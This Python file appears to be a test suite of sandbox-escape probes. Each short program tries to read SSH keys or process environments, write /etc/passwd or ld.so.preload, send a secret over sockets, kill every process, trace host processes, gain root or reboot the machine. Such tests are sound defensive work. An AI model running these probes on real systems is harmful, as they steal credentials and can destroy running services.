"""Attempts to leave the sandbox, each a Python program that prints ESCAPED if it succeeds.

A program runs in the tree with the prelude below. Names in angle brackets are replaced by what the host has:
the home with a secret, the repository, sockets that listen, a process. Every program prints TRIED in the end,
so that one that cannot run is not taken for one that failed to escape.
"""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = """\
import ctypes, errno, glob, os, pathlib, platform, signal, socket, stat, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
HOME, REPO, GIT_DIR, SECRET = "<home>", "<repo>", "<git_dir>", "<secret>"
PID, PORT, ADDRESS, SOCKET, ABSTRACT = <pid>, <port>, "<address>", "<socket>", "<abstract>"
X86 = platform.machine() == "x86_64"

def escaped(why=""):
    print("ESCAPED", why, flush=True)

def attempt(action, *arguments):
    try:
        result = action(*arguments)
    except (OSError, ValueError, AttributeError, MemoryError) as error:
        return None
    escaped(repr(result)[:80])

def contains(path):
    try:
        with open(path, "rb") as file:
            return SECRET.encode() in file.read(1 << 20)
    except OSError:
        return False

def search(*paths):
    for path in paths:
        if contains(path):
            escaped(path)

def call(name, number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result >= 0:
        escaped(name)
    return ctypes.get_errno()

def send(family, kind, target):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(target)
        one.send(SECRET.encode())

"""


@dataclass(frozen=True, slots=True)
class Escape:
    """An attempt.

    Attributes:
        open_without: True if it succeeds without isolation, which shows that the program is a real attempt.
        loopback: True to run it where internet sockets are permitted.
    """

    name: str
    program: str
    open_without: bool = False
    loopback: bool = False


FILES = (
    Escape("reads a key in HOME", "search(HOME + '/.ssh/id_ed25519')", open_without=True),
    Escape("lists HOME", "attempt(lambda: os.listdir(HOME)[0])", open_without=True),
    Escape(
        "reads the home of an account",
        "import pwd\nfor one in pwd.getpwall():\n"
        "    for path in ('.ssh', '.bashrc', '.profile', '.cache'):\n"
        "        if os.path.exists(os.path.join(one.pw_dir, path)): escaped(one.pw_dir)\n"
        "if os.path.exists('/root') and set(os.listdir('/root')) - {'.pyenv'}: escaped(os.listdir('/root'))",
    ),
    Escape("reads an untracked file of the work tree", "search(REPO + '/untracked.env')", open_without=True),
    Escape("reads the git configuration", "search(GIT_DIR + '/config')", open_without=True),
    Escape(
        "climbs above the tree",
        "search(*('../' * n + HOME[1:] + '/.ssh/id_ed25519' for n in range(12)))",
        True,
    ),
    Escape(
        "climbs by folder descriptors",
        "at = os.open('.', os.O_RDONLY)\nfor _ in range(40):\n    at = os.open('..', os.O_RDONLY, dir_fd=at)\n"
        "try:\n    os.open(HOME[1:] + '/.ssh/id_ed25519', os.O_RDONLY, dir_fd=at)\n    escaped()\nexcept OSError: pass",
        open_without=True,
    ),
    Escape(
        "follows a link of its own to a key",
        "os.symlink(HOME + '/.ssh/id_ed25519', 'own-link')\nsearch('own-link')",
        open_without=True,
    ),
    Escape("follows a committed link to a key", "search('committed-link')", open_without=True),
    Escape(
        "writes a git hook", "attempt(pathlib.Path(GIT_DIR, 'hooks', 'post-commit').write_text, 'x')", True
    ),
    Escape("adds a folder to the git folder", "attempt(os.mkdir, GIT_DIR + '/wardround')", open_without=True),
    Escape("writes the git configuration", "attempt(open, GIT_DIR + '/config', 'a')", open_without=True),
    Escape("writes into the work tree", "attempt(open, REPO + '/new.txt', 'w')", open_without=True),
    Escape("replaces a file of the work tree", "attempt(os.replace, 'a.py', REPO + '/a.py')"),
    Escape("writes to a system folder", "attempt(open, '/usr/lib/wardround-test', 'w')"),
    Escape(
        "writes to the environment's packages",
        "attempt(open, os.path.join(sys.prefix, 'lib', 'wardround-test'), 'w')",
        # without isolation it would leave the file in the environment of the tests
    ),
    Escape("writes to the root folder", "attempt(os.mkdir, '/wardround-test')"),
    Escape("adds a library to every program", "attempt(open, '/etc/ld.so.preload', 'w')"),
    Escape("changes the accounts", "attempt(open, '/etc/passwd', 'a')"),
    Escape(
        "links a file of the system into the tree",
        "attempt(os.link, os.path.realpath('/usr/bin/env'), 'env')",
    ),
    Escape(
        "links a package's file into the tree", "attempt(os.link, os.path.realpath(sys.executable), 'python')"
    ),
    Escape("reads shared memory files of the host", "search(*glob.glob('/dev/shm/**', recursive=True))"),
    Escape("reads temporary files of the host", "search(*glob.glob('/tmp/*/**', recursive=True))"),
    Escape(
        "finds sockets and runtime folders",
        "for one in ('/run', '/var', '/sys', '/mnt', '/srv', '/opt', '/boot', '/var/run/docker.sock'):\n"
        "    if os.path.exists(one): escaped(one)",
        open_without=True,
    ),
)

PROCESSES = (
    Escape("reads secrets in its environment", "if SECRET in str(os.environ): escaped()"),
    Escape("reads the environment of the first process", "search('/proc/1/environ', '/proc/self/environ')"),
    Escape(
        "reads the environment of any process",
        "search(*glob.glob('/proc/[0-9]*/environ'))",
        open_without=True,
    ),
    Escape(
        "sees a process of the host",
        "for path in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    if pathlib.Path(path).read_bytes() == b'sleep\\x00600\\x000.0\\x00': escaped(path)",
        open_without=True,
    ),
    Escape(
        "reaches the host's files by the root of a process",
        "search(*(one + HOME + '/.ssh/id_ed25519' for one in glob.glob('/proc/[0-9]*/root')))",
        open_without=True,
    ),
    Escape(
        "reaches the host's files by the folder of a process",
        "search(*(one + '/untracked.env' for one in glob.glob('/proc/[0-9]*/cwd')))",
        open_without=True,
    ),
    Escape(
        "uses an open file that it inherited",
        "for path in glob.glob('/proc/self/fd/*') + glob.glob('/proc/1/fd/*'):\n"
        "    kind = os.readlink(path).split(':')[0] if os.path.lexists(path) else 'pipe'\n"
        "    if kind not in ('pipe', '/dev/null', 'anon_inode'): escaped(path + ' ' + os.readlink(path))",
    ),
    Escape(
        "finds a first process with more rights than its own",
        "for process in ('1', 'self'):\n"
        "    status = pathlib.Path('/proc', process, 'status').read_text()\n"
        "    for line in ('CapEff:\\t0000000000000000', 'CapBnd:\\t0000000000000000', 'NoNewPrivs:\\t1', 'Seccomp:\\t2'):\n"
        "        if line not in status: escaped(process + line)\n"
        "for one in ('user', 'net', 'mnt', 'pid', 'ipc', 'uts'):\n"
        "    if os.readlink('/proc/1/ns/' + one) != os.readlink('/proc/self/ns/' + one): escaped(one)",
        open_without=True,
    ),
    Escape("signals a process of the host", "attempt(os.kill, PID, 0)", open_without=True),
    Escape(
        "kills every process",
        "os.kill(os.getppid(), 0)\nattempt(os.kill, PID, signal.SIGKILL)\nprint('TRIED', flush=True)\nos.kill(-1, signal.SIGKILL)",
    ),
    Escape("traces a process", "for one in (PID, 1): call('ptrace', 101 if X86 else 117, 16, one, 0, 0)"),
    Escape("seizes a process", "for one in (PID, 1): call('ptrace', 101 if X86 else 117, 0x4206, one, 0, 0)"),
    Escape(
        "reads the memory of a process",
        "buffer = ctypes.create_string_buffer(16)\nvector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)\n"
        "for one in (PID, 1): call('process_vm_readv', 310 if X86 else 270, one, vector, 1, vector, 1, 0)",
    ),
    Escape("takes an open file of a process", "call('pidfd_getfd', 438, os.pidfd_open(1), 0, 0)", False),
    Escape(
        "raises its own limits",
        "import resource\nfor one in (resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_DATA):\n"
        "    soft, hard = resource.getrlimit(one)\n    attempt(resource.setrlimit, one, (hard, hard + 1))",
    ),
    Escape(
        "raises the limits of the first process",
        "import resource\nhard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]\n"
        "attempt(resource.prlimit, 1, resource.RLIMIT_FSIZE, (hard + 1, hard + 1))",
    ),
    Escape("leaves core dumps", "import resource\nattempt(resource.setrlimit, resource.RLIMIT_CORE, (1, 1))"),
)

NETWORK = (
    Escape(
        "connects to a service of the host",
        "attempt(send, socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', PORT))",
        True,
    ),
    Escape(
        "connects to a service of the host from its loopback",
        "attempt(send, socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', PORT))",
        open_without=True,
        loopback=True,
    ),
    Escape(
        "connects to the host by its address",
        "attempt(send, socket.AF_INET, socket.SOCK_STREAM, (ADDRESS, PORT))",
        loopback=True,
    ),
    Escape(
        "sends datagrams to the host", "attempt(send, socket.AF_INET, socket.SOCK_DGRAM, (ADDRESS, PORT))"
    ),
    Escape(
        "sends datagrams to a network",
        "attempt(send, socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 53))",
        loopback=True,
    ),
    Escape("connects by IPv6", "attempt(send, socket.AF_INET6, socket.SOCK_STREAM, ('::1', PORT))"),
    Escape("resolves a name", "attempt(socket.getaddrinfo, 'example.org', 443)", loopback=True),
    Escape(
        "connects to a socket in the host's files",
        "attempt(send, socket.AF_UNIX, socket.SOCK_STREAM, SOCKET)",
        True,
    ),
    Escape(
        "connects to a socket of the host by a link",
        "os.symlink(SOCKET, 'socket-link')\nattempt(send, socket.AF_UNIX, socket.SOCK_STREAM, 'socket-link')",
        open_without=True,
    ),
    Escape(
        "connects to an abstract socket of the host",
        "attempt(send, socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + ABSTRACT)",
        open_without=True,
    ),
    Escape(
        "opens raw and packet sockets",
        "attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)\nattempt(socket.socket, socket.AF_PACKET, 3, 3)",
        loopback=True,
    ),
    Escape("opens a socket to the hypervisor", "attempt(socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)"),
    Escape(
        "opens a socket to the kernel's cryptography",
        "attempt(socket.socket, socket.AF_ALG, socket.SOCK_SEQPACKET)",
    ),
    Escape(
        "sees an interface of the host",
        "names = [name for _, name in socket.if_nameindex()]\nif set(names) - {'lo', 'sit0', 'tunl0'}: escaped(names)",
        loopback=True,
    ),
)

KERNEL = (
    Escape("mounts a file system", "call('mount', 165 if X86 else 40, b'tmpfs', b'/tmp', b'tmpfs', 0, 0)"),
    Escape("makes its view writable", "call('mount', 165 if X86 else 40, b'none', b'/', b'', 0x1020, 0)"),
    Escape(
        "uncovers a mount",
        "for one in (b'/proc/sys', b'/tree', b'/proc/kcore'): call('umount2', 166 if X86 else 39, one, 2)",
    ),
    Escape(
        "opens a detached mount", "call('open_tree', 428, -100, b'/', 1)\ncall('fsopen', 430, b'proc', 0)"
    ),
    Escape(
        "changes its root",
        "attempt(os.chroot, '/tmp')\ncall('pivot_root', 155 if X86 else 41, b'/tmp', b'/tmp')",
    ),
    Escape("makes a user namespace", "call('unshare', 272 if X86 else 97, 0x10000000)"),
    Escape("makes a network namespace", "call('unshare', 272 if X86 else 97, 0x40000000)"),
    Escape(
        "makes a user namespace with a new process",
        "child = libc.syscall(56 if X86 else 220, ctypes.c_long(0x10000000 | 17), 0, 0, 0, 0)\n"
        "if child == 0: os._exit(0)\nif child > 0: escaped()",
    ),
    Escape(
        "makes a user namespace with clone3",
        "size = 88\narguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)\n"
        "child = libc.syscall(435, arguments, size)\nif child == 0: os._exit(0)\nif child > 0: escaped()",
    ),
    Escape(
        "makes namespaces by programs of the system",
        "for argv in (['unshare', '-Ur', 'true'], ['bwrap', '--ro-bind', '/', '/', 'true']):\n"
        "    try:\n        done = subprocess.run(argv, capture_output=True)\n"
        "        if done.returncode == 0: escaped(argv)\n    except FileNotFoundError: pass",
        open_without=True,
    ),
    Escape(
        "enters namespaces",
        "for one in ('user', 'net', 'mnt', 'pid', 'ipc'):\n"
        "    call('setns', 308 if X86 else 268, os.open('/proc/self/ns/' + one, os.O_RDONLY), 0)",
    ),
    Escape(
        "writes settings of the kernel",
        "for one in ('kernel/core_pattern', 'kernel/modprobe', 'vm/drop_caches', 'fs/file-max'):\n    attempt(open, '/proc/sys/' + one, 'w')",
    ),
    Escape("writes network settings of the kernel", "attempt(open, '/proc/sys/net/ipv4/ip_forward', 'w')"),
    Escape("triggers the magic key", "attempt(open, '/proc/sysrq-trigger', 'w')"),
    Escape(
        "reads the memory and the log of the kernel",
        "for one in ('kcore', 'kmsg', 'kallsyms', 'keys', 'timer_list', 'kpagecgroup'):\n"
        "    try:\n        with open('/proc/' + one, 'rb') as file:\n            if file.read(16): escaped(one)\n"
        "    except OSError: pass\n"
        "for one in ('/dev/kmsg', '/dev/mem', '/dev/port'):\n    attempt(open, one, 'rb')",
    ),
    Escape("reads the log of the kernel by a call", "call('syslog', 103 if X86 else 116, 10, 0, 0)", False),
    Escape(
        "changes interrupts and memory ranges",
        "for one in glob.glob('/proc/irq/*/smp_affinity') + ['/proc/mtrr', '/proc/irq/default_smp_affinity']:\n    attempt(open, one, 'r+')",
    ),
    Escape(
        "uses control groups",
        "for one in glob.glob('/sys/fs/cgroup/**/release_agent', recursive=True): escaped(one)\nattempt(os.mkdir, '/sys/fs/cgroup/x')",
    ),
    Escape(
        "makes device files",
        "for kind in (stat.S_IFBLK, stat.S_IFCHR): attempt(os.mknod, 'device', kind | 0o600, os.makedev(8, 0))",
    ),
    Escape(
        "finds a device",
        "known = set('core fd full null ptmx pts random shm stderr stdin stdout tty urandom zero console'.split())\n"
        "if set(os.listdir('/dev')) - known: escaped(os.listdir('/dev'))",
        open_without=True,
    ),
    Escape(
        "becomes root",
        "attempt(os.setuid, 0)\nattempt(os.setgid, 0)\nattempt(os.setgroups, [0])\nif os.getuid() == 0 or os.geteuid() == 0: escaped()",
    ),
    Escape(
        "gains capabilities",
        "status = pathlib.Path('/proc/self/status').read_text()\n"
        "for name in ('CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb'):\n"
        "    if int(status.split(name + ':')[1].split()[0], 16): escaped(name)\n"
        "if 'NoNewPrivs:\\t1' not in status: escaped('new privileges')",
        open_without=True,
    ),
    Escape(
        "gains rights from a file with the set-user-id bit",
        "import shutil\nshutil.copy('/bin/sh', 'own-sh')\nos.chmod('own-sh', 0o6755)\n"
        "done = subprocess.run(['./own-sh', '-p', '-c', 'id -u'], capture_output=True, text=True)\n"
        "if done.stdout.strip() == '0': escaped()\n"
        "done = subprocess.run(['su', '-c', 'true'], capture_output=True, stdin=subprocess.DEVNULL)\n"
        "if done.returncode == 0: escaped('su')",
    ),
    Escape("reads keyrings", "for one in (-1, -3, -4, -5): call('keyctl', 250 if X86 else 219, 0, one, 0)"),
    Escape("adds a key", "call('add_key', 248 if X86 else 217, b'user', b'name', b'x', 1, -4)"),
    Escape("requests a key", "call('request_key', 249 if X86 else 218, b'user', b'name', 0, -3)"),
    Escape(
        "uses io_uring", "buffer = ctypes.create_string_buffer(256)\ncall('io_uring_setup', 425, 4, buffer)"
    ),
    Escape(
        "loads a program into the kernel",
        "buffer = ctypes.create_string_buffer(128)\ncall('bpf', 321 if X86 else 280, 0, buffer, 128)",
    ),
    Escape(
        "reads performance counters",
        "buffer = ctypes.create_string_buffer(128)\nbuffer[4] = 128\ncall('perf_event_open', 298 if X86 else 241, buffer, 0, -1, -1, 0)",
    ),
    Escape("handles page faults", "call('userfaultfd', 323 if X86 else 282, 1)"),
    Escape(
        "opens a file by its handle",
        "handle = ctypes.create_string_buffer(136)\nhandle[0] = 128\ncall('open_by_handle_at', 304 if X86 else 265, 3, handle, 0)\nidentity = ctypes.c_int()\ncall('name_to_handle_at', 303 if X86 else 264, -100, b'/', handle, ctypes.byref(identity), 0)",
    ),
    Escape("sets the clock", "attempt(time.clock_settime, time.CLOCK_REALTIME, time.time())"),
    Escape("renames the machine", "attempt(socket.sethostname, 'x')"),
    Escape(
        "restarts the machine",
        "call('reboot', 169 if X86 else 142, 0xfee1dead, 672274793, 0, 0)\ncall('kexec_load', 246 if X86 else 104, 0, 0, 0, 0)",
    ),
    Escape(
        "loads a module", "call('finit_module', 313 if X86 else 273, os.open('a.py', os.O_RDONLY), b'', 0)"
    ),
    Escape("uses the x32 interface", "if X86: call('getpid', 0x40000000 | 39)"),
    Escape(
        "uses the 32-bit interface",
        "import mmap\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    if not X86: os._exit(1)\n"
        "    code = mmap.mmap(-1, 4096, prot=7)\n"
        "    code.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3')\n"
        "    address = ctypes.addressof(ctypes.c_char.from_buffer(code))\n"
        "    os._exit(0 if ctypes.CFUNCTYPE(ctypes.c_int)(address)() > 0 else 1)\n"
        "if os.waitpid(pid, 0)[1] == 0: escaped()",
    ),
    Escape(
        "types into the terminal",
        "import fcntl, pty\nmain, other = pty.openpty()\nattempt(fcntl.ioctl, other, 0x5412, b'x')\n"
        "attempt(open, '/dev/tty')",
    ),
    Escape(
        "reads shared memory segments of the host",
        "lines = pathlib.Path('/proc/sysvipc/shm').read_text().splitlines()\nif len(lines) > 1: escaped()",
    ),
)

ESCAPES = (*FILES, *PROCESSES, *NETWORK, *KERNEL)
